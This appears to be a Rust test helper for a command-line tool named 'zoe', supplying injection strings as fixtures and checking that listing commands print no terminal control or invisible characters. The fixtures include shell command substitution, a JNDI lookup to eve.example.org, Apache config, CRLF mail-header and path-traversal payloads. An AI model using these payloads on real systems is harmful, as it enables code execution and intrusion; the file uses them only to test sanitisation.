//! Texts that nobody should write, and what must not come of them.

use std::fmt::Write as _;
use std::path::Path;
use std::process::Command;

use assert_cmd::Command as Zoe;

use crate::common::TestEnv;

/// Each ends, opens, steers or hides something somewhere.
pub fn texts() -> Vec<String> {
    vec![
        "\"'`id`$(id)${jndi:ldap://eve.example.org/x};--".to_owned(),
        "</Location>\n<Location \"/\">\nSetHandler server-status\nRequire all granted".to_owned(),
        "%{HTTP_HOST} %n%s%% ${ZOE_DOLLAR}{X} # execution aaaaaaaa".to_owned(),
        "x\r\nBcc: eve@example.org\r\n\r\n.\r\n".to_owned(),
        "../../../../../../tmp/zoe-escaped".to_owned(),
        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m\u{9b}2J\u{8}\u{7f}".to_owned(),
        "ada\u{202e}toor\u{2066}\u{200b}\u{feff}\u{e0041}\u{2028}".to_owned(),
        "é☃".repeat(200),
    ]
}

/// All of them in one.
pub fn all() -> String {
    texts().join(" ")
}

/// Panics where a terminal would take something for an order, the ends of lines and zoe's own colours aside.
#[track_caller]
pub fn shown_safely(text: &str, about: &str) {
    let mut plain = text.replace("\r\n", "\n");
    while let Some(at) = plain.find("\u{1b}[") {
        let end = plain[at..].find('m').map(|end| at + end + 1);
        let colour = |code: &str| code.bytes().all(|b| b.is_ascii_digit() || b == b';');
        let end = end.filter(|end| end - at < 14 && colour(&plain[at + 2..end - 1]));
        let end = end.unwrap_or_else(|| panic!("{about}: {text:?}"));
        plain.replace_range(at..end, "");
    }
    let order = |c: char| {
        c != '\n'
            && (c.is_control()
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{200b}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}'))
    };
    if let Some(bad) = plain.chars().find(|c| order(*c)) {
        panic!("{about}: {bad:?} is in {text:?}");
    }
}

/// What a command prints on a terminal of 100 columns, its standard error aside; it succeeds.
#[track_caller]
pub fn on_a_terminal(zoe: &Zoe, env: &TestEnv, arguments: &[&str]) -> String {
    let errors = env.path("errors");
    let mut line = format!("exec {}", quoted(&zoe.get_program().to_string_lossy()));
    for argument in arguments {
        write!(line, " {}", quoted(argument)).unwrap();
    }
    write!(line, " 2>{}", quoted(&errors.to_string_lossy())).unwrap();
    let mut terminal = Command::new("script");
    terminal.args(["-qec", &line, "/dev/null"]).env_clear();
    for (key, value) in zoe.get_envs() {
        terminal.env(key, value.unwrap_or_default());
    }
    terminal.env("SHELL", "/bin/sh").env("COLUMNS", "100");
    terminal.stdin(std::process::Stdio::null());
    let output = terminal
        .output()
        .expect("script is there (Debian: bsdutils)");
    let said = std::fs::read_to_string(errors).unwrap();
    let shown = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(output.status.success(), "{arguments:?}: {shown}{said}");
    shown_safely(&said, &format!("{arguments:?}"));
    shown
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Every command that looks, on a terminal and into a pipe: nothing of any text is an order.
pub fn look_everywhere(zoe: &dyn Fn() -> Zoe, env: &TestEnv, ids: &[&str]) {
    let mut commands: Vec<Vec<&str>> = [
        &["ps"][..],
        &["ps", "-a", "-o", "wide"],
        &["ps", "-o", "json"],
        &["ps", "-a", "-o", "jsonl"],
        &[
            "ps",
            "-a",
            "--format",
            "{{ id }} {{ user }} {{ name }} {{ reason }} {{ urls }}",
        ],
        &["history", "-o", "json"],
        &["history", "--columns", "id,user,name,application,reason"],
        &["history", "-o", "csv"],
        &["queue"],
        &["queue", "-o", "json"],
        &["status"],
        &["status", "-o", "json"],
        &["top"],
        &["user", "ls"],
    ]
    .map(<[&str]>::to_vec)
    .into();
    for id in ids {
        commands.push(vec!["show", id]);
        commands.push(vec!["show", id, "-o", "json"]);
    }
    for arguments in commands {
        let about = format!("{arguments:?}");
        shown_safely(&on_a_terminal(&zoe(), env, &arguments), &about);
        let output = zoe().args(&arguments).output().unwrap();
        let (shown, said) = (
            String::from_utf8(output.stdout).unwrap(),
            String::from_utf8(output.stderr).unwrap(),
        );
        assert!(output.status.success(), "{about}: {said}");
        shown_safely(&shown, &about);
        shown_safely(&said, &about);
        if arguments.contains(&"json") {
            let _: serde_json::Value = serde_json::from_str(&shown).unwrap();
        }
        if arguments.contains(&"csv") {
            let mut rows = csv::Reader::from_reader(shown.as_bytes());
            let width = rows.headers().unwrap().len();
            assert!(rows.records().all(|row| row.unwrap().len() == width));
        }
    }
}

/// Every file below a directory, by its path from there.
pub fn files(directory: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(directory).into_iter().flatten() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_str().unwrap().to_owned();
        if path.is_dir() {
            found.extend(
                files(&path)
                    .into_iter()
                    .map(|file| format!("{name}/{file}")),
            );
        } else {
            found.push(name);
        }
    }
    found.sort();
    found
}
